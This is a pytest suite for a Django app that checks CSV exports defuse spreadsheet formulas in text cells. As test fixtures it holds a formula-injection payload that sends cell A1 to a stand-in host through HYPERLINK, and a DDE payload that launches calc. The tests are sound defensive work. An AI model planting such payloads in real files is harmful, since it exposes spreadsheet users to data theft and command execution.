"""Every CSV export goes through one writer that defuses spreadsheet formulas in text cells."""

from __future__ import annotations

import csv
import io
import pathlib
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.urls import reverse

from accounts.models import ImportJob, ImportRowError
from churnapp.csvsafe import SafeCsvWriter, csv_cell
from tests.factories import AccountFactory, SubscriptionFactory, UserFactory

EVIL = '=HYPERLINK("http://x.example/?leak="&A1,"Click")'


def _rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (EVIL, "'" + EVIL),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Acme = good", "Acme = good"),
        ("-12.5", "-12.5"),
        ("+3", "+3"),
        (-12.5, -12.5),
        (-3, -3),
        (Decimal("-4.20"), Decimal("-4.20")),
        (None, None),
    ],
)
def test_csv_cell_defuses_formulas_in_text_only(value, expected):
    assert csv_cell(value) == expected


def test_safe_writer_keeps_negative_numbers_numeric():
    out = io.StringIO()
    SafeCsvWriter(out).writerow([-5, "-5", "=1+1", "plain"])
    assert out.getvalue() == "-5,-5,'=1+1,plain\r\n"


@pytest.mark.django_db
def test_drilldown_csv_defuses_an_account_named_like_a_formula(client, viewer):
    import datetime as dt

    account = AccountFactory(name=EVIL, segment="smb")
    SubscriptionFactory(
        account=account, mrr=Decimal("100"), start_date=dt.date(2023, 1, 1), end_date=dt.date(2024, 1, 15)
    )
    client.force_login(viewer)
    params = {"start": "2024-01-01", "end": "2024-02-01"}
    rows = _rows(client.get("/dashboard/drilldown/churn-rate/churned/csv/", params))
    header, line = rows[0], rows[1]
    assert line[header.index("name")] == "'" + EVIL


@pytest.mark.django_db
def test_widget_csv_defuses_an_owner_named_like_a_formula(client, viewer):
    owner = UserFactory(username="mallory", first_name="@SUM(1+1)*cmd", last_name="", role="CSM")
    AccountFactory(owner=owner)
    client.force_login(viewer)
    rows = _rows(client.get("/dashboard/widgets/workload/csv/", {"period": "12m"}))
    owners = [row[0] for row in rows[1:]]
    assert "'@SUM(1+1)*cmd" in owners
    assert "@SUM(1+1)*cmd" not in owners


@pytest.fixture
def job_with_evil_error(db):
    job = ImportJob.objects.create(kind="accounts", original_name="a.csv", failed_count=1)
    ImportRowError.objects.create(job=job, row_number=2, message=f"Unknown account {EVIL!r}.", raw=EVIL)
    return job


def test_import_error_report_defuses_formulas(client, manager, job_with_evil_error):
    client.force_login(manager)
    rows = _rows(client.get(reverse("import-errors-csv", args=[job_with_evil_error.pk])))
    assert rows[1][0] == "2"
    assert rows[1][1].startswith("Unknown account")
    assert rows[1][2] == "'" + EVIL
    job_with_evil_error.row_errors.update(message=EVIL)
    rows = _rows(client.get(reverse("import-errors-csv", args=[job_with_evil_error.pk])))
    assert rows[1][1] == "'" + EVIL


def test_import_command_error_file_defuses_formulas(tmp_path, settings, monkeypatch, db):
    settings.MEDIA_ROOT = tmp_path
    # Whatever text an error message ends up with, the report must not carry it as a live formula.
    monkeypatch.setattr("accounts.imports.runner._error_text", lambda errors: EVIL)
    path = tmp_path / "events.csv"
    path.write_text("account_id,event_time,event_type\nghost,2024-05-01T10:00:00Z,x\n")
    report = tmp_path / "errors.csv"
    with pytest.raises(SystemExit):  # exit status 1: some rows failed
        call_command("import_data", "--kind", "events", str(path), "--errors", str(report), stdout=io.StringIO())
    rows = list(csv.reader(report.open()))
    assert rows[1][1] == "'" + EVIL


def test_no_export_writes_csv_without_the_safe_writer():
    """A new export must use churnapp.csvsafe. Raw CSV is written only where no export is: the PostgreSQL COPY
    buffer, and an erasure rewriting a customer's own uploaded file without the erased person's rows (its other
    cells must stay byte for byte what was uploaded)."""
    root = pathlib.Path(__file__).resolve().parents[2]
    allowed = {"churnapp/csvsafe.py", "health/bulk.py", "privacy/files.py"}
    offenders = []
    for path in root.glob("*/**/*.py"):
        relative = path.relative_to(root).as_posix()
        if relative.startswith((".venv/", "tests/")) or relative in allowed:
            continue
        text = path.read_text()
        if "csv.writer(" in text or "csv.DictWriter(" in text:
            offenders.append(relative)
    assert offenders == []
